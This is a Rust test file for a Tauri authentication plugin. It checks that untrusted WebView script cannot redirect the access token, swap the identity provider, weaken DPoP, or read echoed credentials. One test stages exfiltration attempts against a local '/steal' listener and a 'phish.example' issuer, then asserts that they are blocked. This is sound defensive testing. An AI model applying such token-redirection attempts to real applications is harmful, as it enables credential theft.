//! The WebView is untrusted: script in it (an XSS, a compromised UI dependency) can call every
//! command. It must not be able to send the access token to a server of its choosing, or swap the
//! provider, while a session exists. Against the real dev IdP on Tauri's mock runtime.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use latchkey_testkit::{browser_command, DevIdp};
use serde_json::json;

use crate::tests::{invoke, mock_app, ENV};

const PIN: &str = "settings-pin-1357";

#[test]
fn the_webview_cannot_redirect_the_access_token_or_swap_the_provider_while_a_session_exists() {
    let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
    let idp = DevIdp::start(&[]);
    // The attacker's server: anything that connects to it would be the token leaving.
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    attacker.set_nonblocking(true).unwrap();
    let attacker_url = format!("http://{}/steal", attacker.local_addr().unwrap());

    let data = tempfile::tempdir().unwrap();
    std::env::set_var("BROWSER", browser_command("alice", "login"));
    // Another test's login-driver record (a deleted directory by now) must not leak in.
    std::env::remove_var("LATCHKEY_DRIVER_RECORD");
    let (_app, webview) = mock_app(data.path());
    let settings = |api: &str, issuer: &str| {
        json!({ "settings": {
            "issuer": issuer, "client_id": "latchkey-native",
            "params": { "prompt": "consent" }, "api_url": api
        } })
    };
    invoke(&webview, "save_settings", settings(&idp.api, &idp.issuer)).unwrap();
    invoke(&webview, "plugin:latchkey|sign_in", json!({ "pin": PIN })).unwrap();
    let view = invoke(&webview, "plugin:latchkey|status", json!({})).unwrap();
    assert_eq!(view["session"]["state"], "signed_in", "{view}");
    let stored = std::fs::read_to_string(data.path().join("settings.toml")).unwrap();

    // Signed in: the script tries to point "Call API" at its server, then to swap the issuer.
    for attempt in [
        settings(&attacker_url, &idp.issuer),
        settings(&idp.api, "https://phish.example"),
    ] {
        let err = invoke(&webview, "save_settings", attempt).unwrap_err();
        assert_eq!(err["kind"], "wrong_state", "{err}");
    }
    // Locked (the next launch, before the user unlocks): the same.
    invoke(&webview, "plugin:latchkey|lock", json!({})).unwrap();
    let err = invoke(
        &webview,
        "save_settings",
        settings(&attacker_url, &idp.issuer),
    )
    .unwrap_err();
    assert_eq!(err["kind"], "wrong_state", "{err}");
    assert_eq!(
        std::fs::read_to_string(data.path().join("settings.toml")).unwrap(),
        stored,
        "the settings on disk are unchanged"
    );

    // The script's authorised fetch reaches only origins the app allowed in Rust (none here):
    // the attacker's URL is refused before anything is sent.
    let err = invoke(
        &webview,
        "plugin:latchkey|fetch",
        json!({ "url": attacker_url }),
    )
    .unwrap_err();
    assert_eq!(err["kind"], "origin_not_allowed", "{err}");

    // The user unlocks and calls the API: the token goes to the configured API, nowhere else.
    invoke(&webview, "plugin:latchkey|unlock", json!({ "pin": PIN })).unwrap();
    assert_eq!(
        invoke(&webview, "call_api", json!({})).unwrap()["status"],
        200
    );
    assert!(
        matches!(attacker.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "nothing reached the attacker's server"
    );

    // Signed out, settings are the user's to change.
    invoke(&webview, "plugin:latchkey|sign_out", json!({})).unwrap();
    invoke(&webview, "save_settings", settings(&idp.api, &idp.issuer)).unwrap();
    let view = invoke(&webview, "plugin:latchkey|status", json!({})).unwrap();
    assert_eq!(view["configured"], true, "{view}");
}

#[test]
fn the_webview_can_raise_dpop_in_the_settings_it_saves_but_never_lower_it() {
    let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
    std::env::remove_var("LATCHKEY_DPOP");
    let data = tempfile::tempdir().unwrap();
    let (_app, webview) = mock_app(data.path());
    let settings = |dpop: Option<&str>| {
        let mut s = json!({ "issuer": "http://127.0.0.1:9", "client_id": "latchkey-native" });
        if let Some(dpop) = dpop {
            s["dpop"] = json!(dpop);
        }
        json!({ "settings": s })
    };
    // Signed out, as after a scripted sign-out: the next session's protection is at stake.
    invoke(&webview, "save_settings", settings(Some("required"))).unwrap();
    let stored = std::fs::read_to_string(data.path().join("settings.toml")).unwrap();
    for lower in [Some("off"), Some("auto"), None] {
        let err = invoke(&webview, "save_settings", settings(lower)).unwrap_err();
        assert_eq!(err["kind"], "configuration", "{lower:?}: {err}");
        assert_eq!(err["field"], "dpop", "{lower:?}: {err}");
    }
    assert_eq!(
        std::fs::read_to_string(data.path().join("settings.toml")).unwrap(),
        stored,
        "the settings on disk are unchanged"
    );
    invoke(&webview, "save_settings", settings(Some("required"))).unwrap();
}

#[test]
fn scripted_userinfo_and_api_calls_through_ipc_never_reset_the_idle_clock() {
    let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
    let idp = DevIdp::start(&[]);
    let data = tempfile::tempdir().unwrap();
    std::env::set_var("BROWSER", browser_command("alice", "login"));
    std::env::remove_var("LATCHKEY_DRIVER_RECORD");
    let (app, webview) = mock_app(data.path());
    let settings = json!({ "settings": {
        "issuer": idp.issuer, "client_id": "latchkey-native", "api_url": idp.api,
        "params": { "prompt": "consent" }
    } });
    invoke(&webview, "save_settings", settings).unwrap();
    invoke(&webview, "plugin:latchkey|sign_in", json!({ "pin": PIN })).unwrap();
    let latchkey =
        tauri::async_runtime::block_on(tauri_plugin_latchkey::LatchkeyExt::latchkey(&app).facade())
            .unwrap();
    let reset_at = latchkey.last_user_activity();
    assert!(reset_at.is_some(), "the sign-in started the idle clock");
    // What script can do, as often as it likes: none of it is the user.
    for _ in 0..3 {
        assert_eq!(
            invoke(&webview, "plugin:latchkey|userinfo", json!({})).unwrap()["sub"],
            "alice"
        );
        assert_eq!(
            invoke(&webview, "call_api", json!({})).unwrap()["status"],
            200
        );
        invoke(&webview, "plugin:latchkey|status", json!({})).unwrap();
    }
    assert_eq!(
        latchkey.last_user_activity(),
        reset_at,
        "the idle clock was not reset by scripted calls"
    );
    // The user's own proof does reset it.
    invoke(&webview, "plugin:latchkey|lock", json!({})).unwrap();
    invoke(&webview, "plugin:latchkey|unlock", json!({ "pin": PIN })).unwrap();
    assert!(latchkey.last_user_activity() > reset_at);
}

#[test]
fn an_api_that_echoes_the_request_headers_hands_the_webview_no_token_or_proof() {
    let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
    let records = tempfile::tempdir().unwrap();
    let (idp_record, driver_record) = (
        records.path().join("idp.jsonl"),
        records.path().join("driver.jsonl"),
    );
    let idp = DevIdp::start(&[("DEV_IDP_RECORD_SECRETS", idp_record.to_str().unwrap())]);
    let data = tempfile::tempdir().unwrap();
    std::env::set_var("BROWSER", browser_command("alice", "login"));
    std::env::set_var("LATCHKEY_DRIVER_RECORD", &driver_record);
    let (_app, webview) = mock_app(data.path());
    let echo = format!("{}/api/echo", idp.issuer);
    let settings = json!({ "settings": {
        "issuer": idp.issuer, "client_id": "latchkey-native", "api_url": echo
    } });
    invoke(&webview, "save_settings", settings).unwrap();
    invoke(&webview, "plugin:latchkey|sign_in", json!({ "pin": PIN })).unwrap();
    let answer = invoke(&webview, "call_api", json!({})).unwrap_err();
    std::env::remove_var("LATCHKEY_DRIVER_RECORD");
    assert_eq!(answer["kind"], "protocol", "{answer}");
    assert!(
        answer["message"].as_str().unwrap().contains("credentials"),
        "{answer}"
    );
    let secrets = latchkey_testkit::Secrets::from_records(&idp_record, &driver_record);
    assert!(
        secrets.count("access_token") >= 1,
        "the scan knows the token it looks for"
    );
    assert_eq!(
        secrets.found_in(answer.to_string().as_bytes()),
        Vec::<String>::new()
    );
    let view = invoke(&webview, "plugin:latchkey|status", json!({})).unwrap();
    assert_eq!(
        secrets.found_in(view.to_string().as_bytes()),
        Vec::<String>::new()
    );
    assert_eq!(view["session"]["state"], "signed_in", "the session is kept");
}
